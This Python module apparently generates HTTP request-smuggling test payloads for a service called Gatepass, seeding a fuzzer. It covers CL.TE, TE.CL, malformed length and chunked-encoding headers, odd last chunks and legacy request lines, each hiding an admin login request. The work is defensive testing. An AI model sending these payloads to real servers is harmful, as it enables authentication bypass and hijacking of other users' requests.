"""Requests that two servers may take for one or for two: the known families of request smuggling.

Each payload hides a login with the right password in what another reading takes for a body, or the other way round.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

FORM: Final = b"Content-Type: application/x-www-form-urlencoded"
LOGIN: Final = b"username=admin&password=password"
CHUNKED: Final = b"Transfer-Encoding: chunked"


@dataclass(frozen=True)
class Payload:
    """Bytes that begin with one request and hide a login behind it, whose X-Request-Id is `smuggled`."""

    family: str
    raw: bytes
    is_two: bool = False
    """RFC 9112 itself says that the login is a request of its own."""


def request(path: bytes, body: bytes, *fields: bytes, method: bytes = b"POST") -> bytes:
    """A well-formed request with a body."""
    return framed([method + b" " + path + b" HTTP/1.1"], *fields, b"Content-Length: %d" % len(body)) + body


def framed(line: list[bytes], *fields: bytes) -> bytes:
    """A head with these fields."""
    return b"\r\n".join([*line, b"Host: localhost", *fields, b"", b""])


HIDDEN: Final = request(b"/v1/oauth/", LOGIN, FORM, b"X-Request-Id: smuggled")
"""The request that nobody but Gatepass may see, and Gatepass not either."""

PATHS: Final = (b"/v1/oauth/", b"/v1/verify/", b"/stream/check", b"/v1/nothing", b"/api/", b"/page")

LENGTHS: Final = (
    *(b"Content-Length: %d", b"Content-Length: +%d", b"Content-Length:  %d ", b"Content-Length: 0%d"),
    *(b"Content-Length:\t%d", b"content-length: %d", b"Content-Length: %d\r\nContent-Length: 0"),
    *(b"Content-Length: 0\r\nContent-Length: %d", b"Content-Length: %d, %d", b"Content-Length: %d\r\n x"),
    *(b"Content-Length : %d", b"Content-Length: %d\x0b", b"Content-Length: %d\0", b"Content-Length: 0x%x"),
    *(b"Content-Length: -%d", b"Content-Length: %d.0", b"Content-Length: %de0", b"Content-Length: 1_%d"),
    *(b"Content_Length: %d", b"Content-Length\0: %d", b"X: y\nContent-Length: %d", b"X: y\rContent-Length: %d"),
    *(b" Content-Length: %d", b"Content-Length:\r\n %d", b"\x00Content-Length: %d", b"Content-Length:\xa0%d"),
)
"""Ways to write a length that some server takes and another does not."""

CODINGS: Final = (
    *(CHUNKED, b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked", b"Transfer-Encoding:chunked"),
    *(b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding: \x0cchunked", b" Transfer-Encoding: chunked"),
    *(b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked", b"Transfer-Encoding\n: chunked"),
    *(b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx"),
    *(b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: gzip"),
    *(b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", b"TE: chunked"),
    *(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",),
    *(b'Transfer-Encoding: "chunked"', b"Transfer_Encoding: chunked"),
    *(b"Transfer-Encoding: chunked\0", b"Transfer-Encoding\0: chunked"),
    *(b"TRANSFER-ENCODING: CHUNKED", b"Transfer-Encoding:"),
    *(b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: ,chunked"),
    *(b"Transfer-Encoding: chunked,", b"X-Transfer-Encoding: chunked"),
    *(b"Transfer-Encoding: ch\xc5\xbfunked", b"Transfer-Encoding: \xefchunked", b"Transfer%2dEncoding: chunked"),
)
"""Ways to write `chunked` that some server takes and another does not."""

CHUNKS: Final = (
    *(b"0\r\n\r\n", b"0\r\nX: y\r\n\r\n", b"0;a=b\r\n\r\n", b"0 \r\n\r\n"),
    *(b"00\r\n\r\n", b"0\n\r\n", b"0\r\n\n", b"0\n\n"),
    *(b"0x0\r\n\r\n", b"+0\r\n\r\n", b"-0\r\n\r\n"),
    *(b"\r\n0\r\n\r\n", b"0;\n\r\n\r\n", b'0;a="\r\n\r\n"\r\n\r\n', b"0_0\r\n\r\n"),
    *(b"1\r\nZ0\r\n\r\n", b"1\nZ\n0\n\n", b"2;\nxx\r\n0\r\n\r\n"),
    *(b"0\r\nContent-Length: 500\r\n\r\n", b"0\r\r\n\r\n", b"\0\r\n\r\n"),
)
"""Ways to write the last chunk."""


LINE_ENDS: Final = (
    *(b"X: y\r\n z", b"X: y\nZ: y", b"X: y\rZ: y", b"X: \0", b"X: y\n\n", b"X: y\r\n\n", b"\n", b"X\r\n: y"),
)
HOP_BY_HOP: Final = (
    *(b"Expect: 100-continue", b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings", b"Connection: Content-Length"),
)


def lengths_and_codings(path: bytes, length: bytes, coding: bytes) -> Iterator[Payload]:
    """A length and a coding that contradict each other; the login is in one of the two bodies (CL.TE, TE.CL)."""
    line = [b"POST " + path + b" HTTP/1.1"]
    body = b"0\r\n\r\n" + HIDDEN
    yield Payload("CL.TE", framed(line, FORM, formatted(length, len(body)), coding) + body)
    wrapped = b"%x\r\n%s\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
    first = wrapped.index(b"\r\n") + 2
    yield Payload("TE.CL", framed(line, FORM, coding, formatted(length, first)) + wrapped)


def formatted(pattern: bytes, number: int) -> bytes:
    """The pattern with the number, as often as it stands there."""
    return pattern % ((number,) * pattern.count(b"%"))


def one_length(path: bytes, length: bytes) -> Payload:
    """A body with the login in it, whose length is written oddly (CL.0 and 0.CL)."""
    return Payload("CL.CL", framed([b"POST " + path + b" HTTP/1.1"], FORM, formatted(length, len(HIDDEN))) + HIDDEN)


def last_chunk(path: bytes, chunk: bytes) -> Payload:
    """The login behind an odd last chunk."""
    return Payload("chunks", framed([b"POST " + path + b" HTTP/1.1"], FORM, CHUNKED) + chunk + HIDDEN)


def requests_lines(path: bytes) -> Iterator[Payload]:
    """Request lines and line ends of other versions and other servers, with the login in a body or behind."""
    size = b"Content-Length: %d" % len(HIDDEN)
    yield Payload("0.9", b"GET " + path + b"\r\n" + HIDDEN)
    yield Payload("1.0 chunked", framed([b"POST " + path + b" HTTP/1.0"], FORM, CHUNKED, size) + HIDDEN)
    for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"TRACE", b"CONNECT"):
        yield Payload("body of " + method.decode(), framed([method + b" " + path + b" HTTP/1.1"], size) + HIDDEN)
    for line in (b"POST http://other" + path + b" HTTP/1.1", b"POST http:" + path + b" HTTP/1.1"):
        yield Payload("absolute form", framed([line], FORM, size) + HIDDEN)
    for field in LINE_ENDS:
        yield Payload("line ends", framed([b"POST " + path + b" HTTP/1.1"], field, FORM, size) + HIDDEN)
    for field in HOP_BY_HOP:
        yield Payload("hop by hop", framed([b"POST " + path + b" HTTP/1.1"], field, FORM, size) + HIDDEN)
    yield Payload("two at once", request(path, b"", FORM) + HIDDEN, is_two=True)
    yield Payload("behind a chunked body", last_chunk(path, b"1\r\nZ\r\n0\r\n\r\n").raw, is_two=True)


def payloads() -> Iterator[Payload]:
    """All of them: some thousands."""
    for path in PATHS:
        yield from requests_lines(path)
        yield from (one_length(path, length) for length in LENGTHS)
        yield from (last_chunk(path, chunk) for chunk in CHUNKS)
        for coding in CODINGS:
            yield from lengths_and_codings(path, LENGTHS[0], coding)
    for length in LENGTHS:
        for coding in CODINGS:
            yield from lengths_and_codings(PATHS[0], length, coding)


REQUESTS: Final = tuple(
    payload.raw
    for payload in (
        *requests_lines(PATHS[0]),
        *(one_length(PATHS[0], each) for each in LENGTHS),
        *(last_chunk(PATHS[0], each) for each in CHUNKS),
    )
)
"""Some of them for the fuzzer to begin with."""
